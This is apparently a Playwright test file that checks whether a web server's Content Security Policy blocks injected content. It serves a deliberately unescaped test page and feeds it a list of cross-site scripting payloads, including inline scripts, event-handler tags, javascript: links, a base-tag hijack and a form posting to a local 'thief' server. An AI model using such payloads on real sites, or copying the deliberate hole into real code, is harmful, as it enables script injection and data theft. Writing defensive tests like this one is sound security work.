import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { newRoom } from '../../packages/server/src/http/web-env.ts';
import {
  bareApp,
  doormanFor,
  openChromium,
  startTestServer,
  type TestServer,
} from '../../packages/server/src/testing/index.ts';
import type { Room } from '../../packages/server/src/web/rooms.ts';
import { PATIENCE_MS } from './patience.ts';

const RAN = 'window.ran=(window.ran||0)+1';

/** What an attacker would write into a page if the escaping of our pages failed everywhere. */
const INJECTIONS: Readonly<Record<string, string>> = {
  'an inline script': `<script>${RAN}</script>`,
  'a script of another site': '<script src="THIEF/x.js"></script>',
  'a script in a data address': `<script src="data:text/javascript,${RAN}"></script>`,
  'a broken picture': `<img src="data:image/png;base64,AA" onerror="${RAN}">`,
  'a picture that loads': `<svg onload="${RAN}"><rect/></svg>`,
  'an autofocused field': `<input autofocus onfocus="${RAN}">`,
  'a javascript address': `<a id="click" href="javascript:${RAN}">x</a>`,
  'a frame with its own page': `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  'a moved base': '<base href="THIEF/"><script src="own.js"></script>',
  'a form that leads away': '<form action="THIEF/steal" method="post"><button id="click">x</button></form>',
  'an inline style': '<p id="styled" style="color:rgb(1,2,3)">x</p><style>#styled{color:rgb(1,2,3)}</style>',
  'a script of ours that writes HTML': '<p id="target"></p><script src="/hole/sink.js"></script>',
  'a script of ours that evaluates text': '<script src="/hole/eval.js"></script>',
};
const SCRIPTS: Readonly<Record<string, string>> = {
  'sink.js': `document.getElementById('target').innerHTML='<img src=x onerror="${RAN}">'`,
  'eval.js': `setTimeout(${JSON.stringify(RAN)});new Function(${JSON.stringify(RAN)})()`,
};
const NAMES = Object.keys(INJECTIONS);

/** A page with a hole: it writes what it is told without escaping. Exists only here. */
const HOLE: Room = {
  path: '/hole',
  pages: () => {
    const room = newRoom();
    room.get('/sink.js', (c) => c.body(SCRIPTS['sink.js'] ?? '', 200, { 'content-type': 'text/javascript' }));
    room.get('/eval.js', (c) => c.body(SCRIPTS['eval.js'] ?? '', 200, { 'content-type': 'text/javascript' }));
    room.get('/:index{[0-9]+}', (c) => {
      const injected = (INJECTIONS[NAMES[Number(c.req.param('index'))] ?? ''] ?? '').replace('THIEF', thiefOrigin);
      return c.html(`<!doctype html><title>hole</title><body>${injected}</body>`);
    });
    return room;
  },
};

/** Another site, which counts who comes; nobody should. */
const visits: string[] = [];
const thief: Server = createServer((request, response) => {
  visits.push(request.url ?? '');
  response.setHeader('content-type', 'text/javascript').end(RAN);
});
let thiefOrigin = '';
interface Seen {
  readonly ran?: number;
  readonly blocked: string[];
}
let server: TestServer;
let browser: Browser;
beforeAll(async () => {
  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
  thiefOrigin = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
  server = await startTestServer(bareApp(), doormanFor('office'), { rooms: [HOLE] });
  browser = await openChromium();
});
afterAll(async () => {
  await browser.close();
  await server.close();
  thief.close();
});

test.each(NAMES.map((name, index) => ({ name, index })))(
  'even without escaping, $name does nothing',
  async ({ index }) => {
    const page = await browser.newPage();
    await page.addInitScript(() => {
      const seen = Object.assign(globalThis, { blocked: [] as string[] });
      document.addEventListener('securitypolicyviolation', (event) => seen.blocked.push(event.effectiveDirective));
    });
    await page.goto(`${server.origin}/hole/${index}`);
    // Clicked from inside: a click of the driver waits for the navigation that must not come.
    await page.evaluate(() => document.querySelector<HTMLElement>('#click')?.click());
    // The browser says which rule held: without that the test would also pass on an empty page. A frame inherits the
    // policy of its page and complains in its own window.
    const blocked = async (): Promise<number> => {
      const counts = page.frames().map((frame) => frame.evaluate(() => (globalThis as unknown as Seen).blocked.length));
      return (await Promise.all(counts)).reduce((sum, count) => sum + count, 0);
    };
    await expect.poll(blocked, { timeout: PATIENCE_MS }).toBeGreaterThan(0);
    const ran = await page.evaluate(() => (globalThis as unknown as Seen).ran ?? 0);
    const colour = await page.evaluate(
      () => getComputedStyle(document.querySelector('#styled') ?? document.body).color,
    );
    expect(ran).toBe(0);
    expect(visits).toEqual([]);
    expect(colour).not.toBe('rgb(1, 2, 3)');
    await page.close();
  },
);
